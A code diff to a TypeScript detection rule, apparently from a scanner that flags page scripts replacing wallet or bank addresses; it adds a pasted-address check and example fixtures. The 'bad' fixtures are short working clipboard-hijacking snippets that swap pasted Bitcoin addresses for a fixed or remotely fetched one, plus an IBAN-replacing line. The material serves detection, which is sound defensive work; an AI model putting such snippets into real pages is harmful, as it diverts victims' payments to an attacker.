@@ -7,6 +7,7 @@ import { backwardSlice } from '../../program/backwardSlice.ts';
 import { isMadeOf } from '../../program/madeOf.ts';
 import { first } from '../../facts/first.ts';
 import { codesExchanged } from './codesExchanged.ts';
+import { pastedPayees } from './pastedPayees.ts';
 import { payeesInRequests } from './payeesInRequests.ts';
 import { runsInPages } from './places.ts';
 import { ADDRESS, writtenPayees } from './writtenPayees.ts';
@@ -30,6 +31,7 @@ export const walletAddressReplaced = defineRule({
     yield* writtenPayees(judged);
     yield* payeesInRequests(judged);
     yield* codesExchanged(judged);
+    yield* pastedPayees(judged);
     const forms = addressPatterns(script);
     const head = forms[0];
     if (head === undefined) return;
@@ -67,6 +69,12 @@ export const walletAddressReplaced = defineRule({
   }),
   examples: {
     bad: [
+      contentExample(
+        'document.addEventListener("paste", (e) => { const t = e.clipboardData.getData("text"); if (/^(bc1|[13])[a-zA-Z0-9]{25,60}$/.test(t)) { e.preventDefault(); document.execCommand("insertText", false, "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"); } }, true);',
+      ),
+      contentExample(
+        'let mine; fetch("https://x.example/a").then((r) => r.json()).then((j) => { mine = j.btc; }); document.addEventListener("paste", (e) => { if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/.test(e.clipboardData.getData("text"))) { e.preventDefault(); e.target.setRangeText(mine); } }, true);',
+      ),
       contentExample(
         'document.querySelectorAll("td").forEach((n) => { n.textContent = n.textContent.replace(/[A-Z]{2}\\d{2}(?: ?\\d{4}){4,6}/g, "DE89 3704 0044 0532 0130 00"); });',
       ),
@@ -108,6 +116,9 @@ export const walletAddressReplaced = defineRule({
       ),
     ],
     good: [
+      contentExample(
+        'document.addEventListener("paste", (e) => { const t = e.clipboardData.getData("text"); e.preventDefault(); document.execCommand("insertText", false, /^0x[a-fA-F0-9]{40}$/.test(t) ? t.toLowerCase() : t.trim()); }, true);',
+      ),
       contentExample(
         'document.querySelectorAll("img").forEach(async (one) => { if (await model.detect(one)) one.src = blank; });',
       ),
